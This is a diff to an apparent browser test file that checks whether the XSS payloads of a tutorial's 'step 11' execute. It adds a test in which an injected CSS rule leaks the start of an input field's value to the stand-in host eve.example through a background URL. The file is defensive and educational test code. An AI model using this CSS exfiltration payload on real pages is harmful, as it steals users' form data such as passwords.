@@ -1,4 +1,4 @@
-"""Whether a script runs is for a browser to say: the payloads of step 11, tried."""
+"""The payloads of step 11, tried in a browser: only a browser knows what runs."""
 
 from importlib.util import module_from_spec, spec_from_file_location
 
@@ -62,7 +62,7 @@ def xss():
     return module
 
 
-# in each frame, and in frames inside: say to the top which of them it was
+# in each frame, and in frames inside it: tell the top window which frame it was
 REPORT = """
 window.alert = () => {
   let frame = window;
@@ -71,7 +71,7 @@ window.alert = () => {
 };
 if (window === top) window.ran = new Set();
 """
-# one frame for each page; who visits it also clicks, and goes through its fields
+# one frame for each page; the visitor also clicks, and focuses its fields
 OPEN = """
 async pages => {
   const frames = pages.map((page, number) => {
@@ -100,10 +100,10 @@ async pages => {
 
 @pytest.fixture
 def run(browser):
-    """Open pages, each in a frame, and tell which of them ran a script."""
+    """Return a function that opens pages and returns those that ran a script."""
     context = browser.new_context()
     context.add_init_script(REPORT)
-    # a picture that is not there is not asked for, either
+    # no other request leaves the browser, such as one for a missing picture
     blank = {"body": "<!doctype html>", "content_type": "text/html"}
     context.route(
         "**/*",
@@ -190,3 +190,21 @@ def test_holes_are_real_and_can_be_fixed(run):
 
     assert ran == set(range(len(holes)))
     assert still == set()
+
+
+def test_style_sheet_can_read_a_field_of_its_page(browser):
+    # nothing in it is escaped, and no script runs
+    rule = "red} input[value^=h]{background:url(http://eve.example/h)"
+    page = browser.new_page()
+    page.route("**/*", lambda route: route.abort())
+    source = "<style>p {{ color: {{{{ x }}}} }}</style><input value={value!r}>"
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    try:
+        for value in ["hunter2", "other"]:
+            page.set_content(page_of_step_11(source.format(value=value), x=rule))
+            page.wait_for_timeout(100)
+    finally:
+        page.close()
+
+    assert asked == ["http://eve.example/h"]
